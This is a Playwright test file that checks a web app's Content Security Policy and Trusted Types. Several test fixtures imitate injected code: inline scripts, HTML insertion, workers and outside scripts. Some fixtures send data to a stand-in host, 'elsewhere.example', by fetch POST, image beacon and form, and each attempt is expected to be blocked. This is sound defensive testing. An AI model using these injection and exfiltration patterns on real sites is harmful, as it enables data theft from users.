/** The security policy stops what it should, and nothing of what the app does itself. */
import { createServer } from 'node:http';
import { expect, test, type Page } from '@playwright/test';
import { bareServer, listening, watchedServer } from './watched-server.ts';

const ELSEWHERE = 'https://elsewhere.example/';

/** What a program that got into the page would try, and the rule that stands in its way. Each returns whether it succeeded. */
const ATTEMPTS: Record<string, { rule: RegExp; attempt: (elsewhere: string) => boolean | Promise<boolean> }> =
  {
    'a script in the page': {
      rule: /require-trusted-types-for/,
      attempt: () => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken over"';
        document.head.append(script);
        return document.title === 'taken over';
      },
    },
    'text as markup': {
      rule: /require-trusted-types-for/,
      attempt: () => {
        document.body.insertAdjacentHTML('beforeend', '<p id="brought-in">Text</p>');
        return document.getElementById('brought-in') !== null;
      },
    },
    'a page in a frame from text': {
      rule: /require-trusted-types-for/,
      attempt: () => {
        document.createElement('iframe').srcdoc = '<p>Text</p>';
        return true;
      },
    },
    'a handler in markup': {
      rule: /require-trusted-types-for|script-src/,
      attempt: () => {
        document.body.setAttribute('onclick', 'document.title = "taken over"');
        document.body.click();
        return document.title === 'taken over';
      },
    },
    'a policy of its own': {
      rule: /trusted-types/,
      attempt: () => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): void };
        };
        trustedTypes.createPolicy('mine', {});
        return true;
      },
    },
    'a worker from memory': {
      rule: /require-trusted-types-for|worker-src/,
      attempt: () => {
        new Worker(URL.createObjectURL(new Blob([''])));
        return true;
      },
    },
    'a worker from elsewhere': {
      rule: /require-trusted-types-for|worker-src/,
      attempt: (elsewhere) => {
        new Worker(`${elsewhere}assets/some-worker.js`);
        return true;
      },
    },
    'a style in the page': {
      rule: /style-src/,
      attempt: () => {
        const style = document.createElement('style');
        style.textContent = 'body { outline: 7px solid red }';
        document.head.append(style);
        return getComputedStyle(document.body).outlineWidth === '7px';
      },
    },
    'a script from elsewhere': {
      rule: /script-src/,
      attempt: (elsewhere) => import(/* @vite-ignore */ `${elsewhere}x.js`).then(() => true),
    },
    'to send something': {
      rule: /connect-src/,
      attempt: (elsewhere) => fetch(elsewhere, { method: 'POST', body: 'names' }).then(() => true),
    },
    'to send something by a picture': {
      rule: /img-src/,
      attempt: (elsewhere) =>
        new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve(true);
          image.onerror = () => resolve(false);
          image.src = `${elsewhere}?names`;
        }),
    },
    'to send something by a form': {
      rule: /form-action/,
      attempt: (elsewhere) => {
        const form = document.createElement('form');
        form.action = elsewhere;
        document.body.append(form);
        form.submit();
        return false;
      },
    },
    'another base for addresses': {
      rule: /base-uri/,
      attempt: (elsewhere) => {
        const base = document.createElement('base');
        base.href = elsewhere;
        document.head.append(base);
        return document.baseURI === elsewhere;
      },
    },
  };

/** Which rules the browser says that were broken, for as long as the page stays. */
async function listen(page: Page): Promise<string[]> {
  const broken: string[] = [];
  await page.exposeFunction('tellViolation', (rule: string) => broken.push(rule));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      (globalThis as unknown as { tellViolation(rule: string): void }).tellViolation(effectiveDirective);
    });
  });
  return broken;
}

for (const [host, serve] of [
  ['with our headers', watchedServer],
  ['from a host without headers', bareServer],
] as const)
  test(`what a program in the page would try is stopped and seen, ${host}`, async ({ browser }) => {
    const { address, close } = await serve();
    const context = await browser.newContext();
    // A request that the policy let pass would be answered.
    await context.route(`${ELSEWHERE}**`, (route) =>
      route.fulfill({ headers: { 'Access-Control-Allow-Origin': '*' } }),
    );
    for (const [name, { rule, attempt }] of Object.entries(ATTEMPTS)) {
      const page = await context.newPage();
      const broken = await listen(page);
      await page.goto(address);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      expect(broken, 'before').toEqual([]);
      const succeeded = await page.evaluate(attempt, ELSEWHERE).catch(() => false);
      expect(succeeded, name).toBe(false);
      await expect.poll(() => broken.join(' '), { message: name }).toMatch(rule);
      await page.close();
    }
    await context.close();
    close();
  });

test('what a worker tries is stopped and reported too', async ({ browser }) => {
  const { address, reports, close } = await watchedServer();
  const page = await browser.newPage();
  // It would be gone as soon as the map is laid out.
  await page.addInitScript(() => {
    Worker.prototype.terminate = () => undefined;
  });
  await page.goto(`${address}#/checklists/supplier/map`);
  const worker = await page.waitForEvent('worker');
  const sent = worker
    .evaluate((elsewhere) => fetch(elsewhere).then(() => true), ELSEWHERE)
    .catch(() => false);
  expect(await sent).toBe(false);
  await expect.poll(() => reports.join('\n')).toContain(`connect-src ${ELSEWHERE}`);
  await page.close();
  close();
});

test('the page can be put into no frame', async ({ page, baseURL }) => {
  const framing = `<iframe src="${baseURL ?? ''}"></iframe>`;
  const other = await listening(
    createServer((_, response) => response.setHeader('Content-Type', 'text/html').end(framing)),
  );
  await page.goto(other.address);
  expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  other.close();
});
